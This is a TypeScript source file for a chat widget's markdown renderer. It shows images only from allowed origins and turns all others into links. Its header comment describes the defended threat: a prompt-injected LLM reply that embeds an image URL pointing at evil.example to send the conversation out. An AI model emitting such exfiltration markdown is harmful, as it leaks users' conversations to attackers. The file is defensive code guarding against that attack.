/**
 * Which markdown images a reply may make the visitor's browser fetch. A reply is written by
 * the webhook, often by an LLM that reads text from elsewhere: a prompt injection can make it
 * write `![x](https://evil.example/pixel?data=<the conversation>)`, and loading that image
 * would send the conversation to whoever runs evil.example. So only images from the page's
 * own origin, from origins the integrator allowed, and `data:` images (validateLink already
 * let only the safe types through) are shown; any other image becomes a plain link the
 * visitor may choose to open.
 */
import type { MarkdownIt, RendererRule as RenderRule } from 'markdown-it';

/** What the rule reads from markdown-it's `env`. */
export type ImagePolicyEnv = {
  /** Origins such as `https://cdn.example.com` whose images are shown, besides the page's own. */
  allowedImageOrigins?: readonly string[];
};

/** The page the chat is on: relative image URLs resolve against it and its origin is always allowed. */
export function pageBase(): string | undefined {
  return globalThis.document?.baseURI ?? globalThis.location?.href;
}

/** Whether the image at `src` may be fetched; unparsable URLs may not. */
export function isImageAllowed(src: string, allowedOrigins: readonly string[] = []): boolean {
  if (/^data:/i.test(src)) return true;
  const base = pageBase();
  let url: URL;
  try {
    url = new URL(src, base);
  } catch {
    return false;
  }
  const pageOrigin = base ? new URL(base).origin : undefined;
  return (url.origin !== 'null' && url.origin === pageOrigin) || allowedOrigins.includes(url.origin);
}

/** Replaces markdown-it's image rule: allowed images get no referrer, the others become links. */
export function imagePolicy(md: MarkdownIt): void {
  const image = md.renderer.rules.image as RenderRule;
  md.renderer.rules.image = (tokens, idx, options, env, self) => {
    const token = tokens[idx]!;
    const src = String(token.attrGet('src') ?? '');
    if (isImageAllowed(src, (env as ImagePolicyEnv | undefined)?.allowedImageOrigins)) {
      // The image's server learns nothing of the page the chat is on.
      token.attrSet('referrerpolicy', 'no-referrer');
      return image(tokens, idx, options, env, self);
    }
    // The same attributes every other link of a reply gets (render.ts).
    const alt = self.renderInlineAsText(token.children ?? [], options, env);
    const title = String(token.attrGet('title') ?? '');
    const escape = md.utils.escapeHtml;
    const titleAttribute = title ? ` title="${escape(title)}"` : '';
    return `<a href="${escape(src)}"${titleAttribute} target="_blank" rel="noopener noreferrer">${escape(alt || src)}</a>`;
  };
}
